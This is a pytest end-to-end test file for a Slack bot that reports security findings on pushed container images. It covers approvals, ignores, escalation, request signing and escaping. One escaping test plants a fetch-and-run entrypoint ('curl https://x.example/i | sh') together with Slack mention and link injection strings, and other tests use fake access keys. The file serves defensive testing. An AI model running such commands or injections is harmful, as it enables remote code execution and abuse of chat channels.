"""The Slack experience end to end, through signed requests and the Slack stand-in.

Each test pushes an image through the real intake, lets the bot post, then clicks the buttons
the bot posted (read from the stand-in, never guessed) the way Slack sends clicks.
"""

from __future__ import annotations

import asyncio
import json
import re
import time
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

import handlers
from bot.app import Runtime, build, web_app
from bot.store import inbox, tracking
from tests.conftest import SIGNING_SECRET, WEBHOOK_SECRET, make_settings, slack_section
from tests.support.fake_registry import FakeRegistry
from tests.support.settle import eventually, settle
from tests.support.slack_standin import (
    SlackStandIn,
    block_actions_body,
    signed_headers,
    slash_command_body,
    view_submission_body,
)

TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
AWS_KEY = "AKIA" + "Q3ZD5MPL" + "7ZK2R4TB"
APPROVER, GROUPIE, OTHER, ONCALL = "UAPPROVER1", "UGROUPIE1", "UOTHER1", "SONCALL1"
#: In #team-a (team-a lists no members, so its channel's members may Patch and Ignore).
MEMBER, PAGED = "UMEMBER1", "UONCALL1"


@dataclass
class Clock:
    t: datetime = field(default_factory=lambda: datetime(2026, 12, 1, 9, 0, tzinfo=UTC))

    def now(self) -> datetime:
        return self.t

    def advance(self, **kw: float) -> None:
        self.t += timedelta(**kw)


@dataclass
class Bot:
    client: TestClient[Any, Any]
    runtime: Runtime
    slack: SlackStandIn
    fake: FakeRegistry
    clock: Clock
    pushes: int = 0

    async def push(
        self, repository: str, tag: str, config: dict[str, Any], *, actor: str | None = None
    ) -> None:
        digest = self.fake.add_image(repository, tag, {"config": config})
        self.pushes += 1
        event = {
            "id": f"ev-{self.pushes}",
            "action": "push",
            "actor": {"name": actor} if actor else {},
            "target": {
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "repository": repository,
                "digest": digest,
                "tag": tag,
            },
        }
        resp = await self.client.post(
            "/hooks/registry/local",
            data=json.dumps({"events": [event]}),
            headers={
                "Authorization": f"Bearer {WEBHOOK_SECRET}",
                "Content-Type": "application/json",
            },
        )
        assert resp.status == 202

    async def settle(self) -> None:
        """Wait until every event is processed and every message due (by the test's clock)
        delivered, running delivery passes rather than waiting for the loop's next poll."""
        await settle(
            self.runtime.core.db,
            now=self.clock.now,
            deliver=self.runtime.delivery.run_once,
            timeout=10,
        )
        await asyncio.sleep(0.05)

    def posts(self) -> list[dict[str, Any]]:
        return [c.args for c in self.slack.calls_to("chat.postMessage")]

    def top_level(self) -> list[dict[str, Any]]:
        return [a for a in self.posts() if not a.get("thread_ts")]

    def replies(self) -> list[dict[str, Any]]:
        return [a for a in self.posts() if a.get("thread_ts")]

    def updates(self) -> list[dict[str, Any]]:
        return [c.args for c in self.slack.calls_to("chat.update")]

    def message(self, channel: str = "#team-a", index: int = -1) -> dict[str, Any]:
        top = [
            m
            for m in self.slack.messages[channel]
            if not m.get("thread_ts") or m.get("thread_ts") == m.get("ts")
        ]
        return top[index]

    async def click(
        self,
        action_id: str,
        user: str,
        message: dict[str, Any] | None = None,
        check: str | None = None,
        *,
        timestamp: int | None = None,
        secret: str = SIGNING_SECRET,
        value: str | None = None,
        channel: str = "#team-a",
    ) -> Any:
        message = message or self.message(channel)
        value = value or button(message, action_id, check)
        body = block_actions_body(
            action_id=action_id,
            value=value,
            user_id=user,
            channel=self.slack.channel_id(channel),
            message_ts=message["ts"],
            message=message,
        )
        return await self.client.post(
            "/slack/events", data=body, headers=signed_headers(body, secret, timestamp=timestamp)
        )

    async def submit(
        self, callback_id: str, user: str, values: dict[str, Any], metadata: str | None = None
    ) -> Any:
        if metadata is None:
            metadata = self.slack.calls_to("views.open")[-1].args["view"]["private_metadata"]
        body = view_submission_body(
            callback_id=callback_id, private_metadata=metadata, user_id=user, values=values
        )
        return await self.client.post(
            "/slack/events", data=body, headers=signed_headers(body, SIGNING_SECRET)
        )

    async def answer(self, text: str, user: str = OTHER) -> dict[str, Any]:
        """The bot's whole answer to `/crowsnest TEXT` in #team-a."""
        body = slash_command_body(
            command="/crowsnest",
            text=text,
            user_id=user,
            channel_id=self.slack.channel_id("#team-a"),
        )
        resp = await self.client.post(
            "/slack/events", data=body, headers=signed_headers(body, SIGNING_SECRET)
        )
        assert resp.status == 200
        answer: dict[str, Any] = await resp.json()
        return answer

    async def command(self, text: str, user: str = OTHER) -> str:
        return str((await self.answer(text, user))["text"])


def button(message: dict[str, Any], action_id: str, check: str | None = None) -> str:
    """The value of a button the bot posted; with `check`, the one beside that finding."""
    blocks = message["blocks"]
    for i, block in enumerate(blocks):
        for el in block.get("elements", []):
            if el.get("action_id") != action_id:
                continue
            if check is None or check in json.dumps(blocks[max(i - 2, 0) : i]):
                return str(el["value"])
    raise AssertionError(f"no {action_id} button for {check} in the message")


def reason(text: str) -> dict[str, Any]:
    return {"reason": {"value": {"type": "plain_text_input", "value": text}}}


def choice(block: str, value: str) -> dict[str, Any]:
    return {block: {"value": {"type": "static_select", "selected_option": {"value": value}}}}


@pytest.fixture
def slack_extra() -> dict[str, Any]:
    """Settings of the bot's `[slack]` section beyond `slack_section`'s; a test that needs
    others parametrizes this fixture (settings are frozen once the bot is built)."""
    return {}


@pytest.fixture
async def bot(
    aiohttp_client: Callable[..., Any], sqlite_url: str, slack_extra: dict[str, Any]
) -> AsyncIterator[Bot]:
    slack = SlackStandIn(
        epoch=time.time(),
        usergroups={"SAPPROVERS": [GROUPIE], ONCALL: [PAGED]},
        channel_members={"#team-a": [MEMBER, PAGED, APPROVER]},
    )
    await slack.start()
    fake = FakeRegistry()
    await fake.start()
    clock = Clock()
    settings = make_settings(
        sqlite_url,
        slack=slack_section(slack, **slack_extra),
        registries=[
            {
                "name": "local",
                "kind": "distribution",
                "url": fake.url,
                "webhook_secret": WEBHOOK_SECRET,
            }
        ],
        teams=[
            {
                "name": "team-a",
                "channel": "#team-a",
                "repositories": ["team-a/*"],
                "approvers": [APPROVER, "SAPPROVERS"],
                "oncall": ONCALL,
            }
        ],
        alerts={"ack_timeout": 600},
    )
    runtime = build(settings, handlers.EDGES, clock=clock)
    client = await aiohttp_client(web_app(runtime))
    yield Bot(client, runtime, slack, fake, clock)
    await slack.stop()
    await fake.stop()


ROOT_WITH_TOKEN = {"User": "", "Env": [f"GITHUB_TOKEN={TOKEN}"]}


async def test_approve_opens_a_modal_and_its_submission_is_recorded_and_shown(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", ROOT_WITH_TOKEN)
    await bot.settle()
    assert len(bot.top_level()) == 1
    resp = await bot.click("finding.approve", APPROVER, check="secret-in-config")
    assert resp.status == 200
    [opened] = bot.slack.calls_to("views.open")
    assert opened.args["view"]["callback_id"] == "decision.approve"

    resp = await bot.submit(
        "decision.approve", APPROVER, reason("rotated; test key") | choice("expiry", "30")
    )
    assert resp.status == 200
    await bot.settle()
    async with bot.runtime.core.db.transaction() as s:
        [decision] = [d for d in await tracking.decisions(s) if d.action == "approve"]
    assert decision.actor == APPROVER and decision.reason == "rotated; test key"
    assert decision.expires_at == bot.clock.now() + timedelta(days=30)
    [update] = bot.updates()
    shown = json.dumps(update["blocks"])
    assert f"Risk accepted by <@{APPROVER}>" in shown and "rotated; test key" in shown


async def test_non_approver_gets_an_ephemeral_refusal_and_nothing_changes(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", ROOT_WITH_TOKEN)
    await bot.settle()
    await bot.click("finding.approve", OTHER, check="secret-in-config")
    assert bot.slack.calls_to("views.open") == []
    [ephemeral] = bot.slack.calls_to("chat.postEphemeral")
    assert ephemeral.args["user"] == OTHER and "approvers of team team-a" in ephemeral.args["text"]

    # A crafted submission that skips the modal is refused the same way.
    metadata = json.dumps(
        {"finding": int(button(bot.message(), "finding.approve", "secret-in-config"))}
    )
    resp = await bot.submit("decision.approve", OTHER, reason("let me"), metadata=metadata)
    assert (await resp.json())["response_action"] == "errors"
    async with bot.runtime.core.db.transaction() as s:  # both attempts audited, nothing taken
        assert [(d.action, d.actor) for d in await tracking.decisions(s)] == [
            ("refused", OTHER),
            ("refused", OTHER),
        ]
    assert bot.updates() == []


async def test_member_of_an_approver_group_may_approve(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", ROOT_WITH_TOKEN)
    await bot.settle()
    await bot.click("finding.approve", GROUPIE, check="secret-in-config")
    assert len(bot.slack.calls_to("views.open")) == 1
    assert bot.slack.calls_to("usergroups.users.list")[0].args["usergroup"] == "SAPPROVERS"


async def test_only_approvers_may_approve_even_a_medium_finding(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", {"User": ""})
    await bot.settle()
    await bot.click("finding.approve", MEMBER, check="runs-as-root")
    assert bot.slack.calls_to("views.open") == []
    [ephemeral] = bot.slack.calls_to("chat.postEphemeral")
    assert "approvers of team team-a" in ephemeral.args["text"]
    await bot.click("finding.approve", APPROVER, check="runs-as-root")
    assert len(bot.slack.calls_to("views.open")) == 1


async def test_double_click_on_patch_makes_one_decision(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", {"User": ""})
    await bot.settle()
    message = bot.message()
    await asyncio.gather(
        bot.click("finding.patch", MEMBER, message, "runs-as-root"),
        bot.click("finding.patch", APPROVER, message, "runs-as-root"),
    )
    await bot.settle()
    async with bot.runtime.core.db.transaction() as s:
        patches = [d for d in await tracking.decisions(s) if d.action == "patch"]
    assert len(patches) == 1
    answers = [c.args["text"] for c in bot.slack.calls_to("chat.postEphemeral")]
    assert any("already requested" in a for a in answers)
    shown = json.dumps(bot.updates()[-1]["blocks"])
    assert f"Patch requested by <@{patches[0].actor}>" in shown
    due = bot.clock.now() + timedelta(days=90)  # medium SLA
    assert patches[0].expires_at == due


async def test_ignored_finding_is_not_reposted_until_expiry(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", {"User": ""})
    await bot.settle()
    await bot.click("finding.ignore", MEMBER, check="runs-as-root")
    resp = await bot.submit(
        "decision.ignore",
        MEMBER,
        reason("base image fix pending")
        | choice("expiry", "7")
        | {
            "scope": {
                "value": {"type": "radio_buttons", "selected_option": {"value": "repository"}}
            }
        },
    )
    assert resp.status == 200
    await bot.push("team-a/app", "1.1", {"User": ""})
    await bot.settle()
    assert bot.replies() == []  # no "still present" for an ignored finding
    assert len(bot.top_level()) == 1

    bot.clock.advance(days=8)
    assert await bot.runtime.core.decisions.expire_ignores() == 1
    await bot.settle()
    [_first, again] = bot.top_level()
    assert "Ignore expired" in json.dumps(again["blocks"])
    assert "runs-as-root" in json.dumps(again["blocks"])


async def test_unacknowledged_critical_alert_escalates_then_ack_stops_it(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", {"User": "app", "Env": [f"AWS_ACCESS_KEY_ID={AWS_KEY}"]})
    await bot.settle()
    message = bot.message()
    ack = button(message, "alert.ack")
    core = bot.runtime.core

    bot.clock.advance(seconds=599)
    assert await core.decisions.escalate() == 0
    bot.clock.advance(seconds=2)
    assert await core.decisions.escalate() == 1
    await bot.settle()
    [mention] = bot.replies()
    assert f"<!subteam^{ONCALL}>" in mention["text"] + json.dumps(mention["blocks"])

    bot.clock.advance(seconds=601)
    assert await core.decisions.escalate() == 1
    await bot.settle()
    assert bot.top_level()[-1]["channel"] == "#fallback"

    await bot.click("alert.ack", PAGED, message)
    await bot.settle()
    assert "is on it" in json.dumps(bot.replies()[-1]["blocks"])
    # A second click (the button is gone from the updated message; Slack may still send it)
    await bot.click("alert.ack", APPROVER, message, value=ack)
    assert "alert.ack" not in json.dumps(bot.updates()[-1]["blocks"])
    answers = [c.args["text"] for c in bot.slack.calls_to("chat.postEphemeral")]
    assert any("Already acknowledged" in a for a in answers)
    bot.clock.advance(days=1)
    assert await core.decisions.escalate() == 0


async def test_acknowledged_alert_never_escalates(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", {"User": "app", "Env": [f"AWS_ACCESS_KEY_ID={AWS_KEY}"]})
    await bot.settle()
    await bot.click("alert.ack", PAGED)
    bot.clock.advance(hours=2)
    assert await bot.runtime.core.decisions.escalate() == 0
    async with bot.runtime.core.db.transaction() as s:
        assert [d.action for d in await tracking.decisions(s)] == ["ack"]


async def test_next_tag_replies_still_present_and_a_clean_push_says_fixed(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", {"User": ""})
    await bot.settle()
    bot.clock.advance(hours=5)
    await bot.push("team-a/app", "1.1", {"User": ""})
    await bot.settle()
    bot.clock.advance(hours=1)
    await bot.push("team-a/app", "1.2", {"User": "10001"})
    await bot.settle()
    assert len(bot.top_level()) == 1
    still, fixed = bot.replies()
    assert "Still present in `team-a/app:1.1`" in json.dumps(still["blocks"])
    assert "fixed in `team-a/app:1.2` after 6 hours" in json.dumps(fixed["blocks"])
    assert "Fixed in `1.2` after 6 hours" in json.dumps(bot.updates()[-1]["blocks"])


async def test_outside_strings_never_become_live_mentions_or_links(bot: Bot) -> None:
    evil = "<!channel> <@U123> <https://evil.example|click>"
    await bot.push(
        "team-a/app",
        "1.0",
        {
            "User": "",
            "Entrypoint": ["sh", "-c", f"curl https://x.example/i | sh #{evil}"],
            "Labels": {"maintainer": evil},
        },
        actor=evil,
    )
    await bot.settle()
    [post] = bot.top_level()
    everything = post["text"] + json.dumps(post["blocks"])
    for live in ("<!channel>", "<@U123>", "<https://evil"):
        assert live not in everything
    assert "&lt;!channel&gt;" in everything  # shown as text


async def test_forged_and_replayed_requests_are_refused(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", {"User": ""})
    await bot.settle()
    old = int(time.time()) - 600
    assert (await bot.click("finding.patch", OTHER, timestamp=old)).status == 401
    assert (await bot.click("finding.patch", OTHER, secret="not-the-secret")).status == 401
    async with bot.runtime.core.db.transaction() as s:
        assert await tracking.decisions(s) == []


async def test_slash_commands_answer_ephemerally(bot: Bot) -> None:
    await bot.push("team-a/app", "1.0", {"User": ""})
    await bot.settle()
    calls_before, channel_before = len(bot.slack.calls), list(bot.slack.messages["#team-a"])
    for text, expected in [
        ("status team-a/app:1.0", "runs-as-root"),
        ("findings team-a", "runs-as-root"),
        ("ignores", "No active"),
        ("digest team-a", "team-a"),
        ("help", "/crowsnest status"),
        ("<!channel>", "Unknown sub-command"),
    ]:
        answer = await bot.answer(text)
        # Only the asker sees it: an ephemeral answer to the command, nothing in the channel.
        assert answer["response_type"] == "ephemeral", (text, answer)
        assert expected in answer["text"], (text, answer)
    await bot.settle()
    posted = [c.method for c in bot.slack.calls[calls_before:] if c.method.startswith("chat.")]
    assert posted == []  # no chat.postMessage, postEphemeral or update on the bot's side
    assert bot.slack.messages["#team-a"] == channel_before


@pytest.mark.parametrize("slack_extra", [{"coalesce_seconds": 60.0}])
async def test_push_storm_is_coalesced_per_repository(bot: Bot) -> None:
    assert bot.runtime.core.settings.slack.coalesce_seconds == 60.0
    for i in range(200):
        await bot.push(f"team-a/svc{i % 20}", f"1.{i}", {"User": ""})

    async def all_done() -> bool:
        async with bot.runtime.core.db.transaction() as s:
            return (await inbox.counts(s)).get("done") == 200

    await eventually(all_done, timeout=30, what="all 200 pushes to be processed")
    bot.clock.advance(seconds=61)
    await bot.settle()
    tops = bot.top_level()
    assert len(tops) == 20
    # each repository's one message names the pushes it stands for
    assert all(len(set(re.findall(r"`(1\.\d+)`", json.dumps(t["blocks"])))) == 10 for t in tops)
    print(f"messages posted per 100 pushes: {len(bot.posts()) / 2:.0f}")
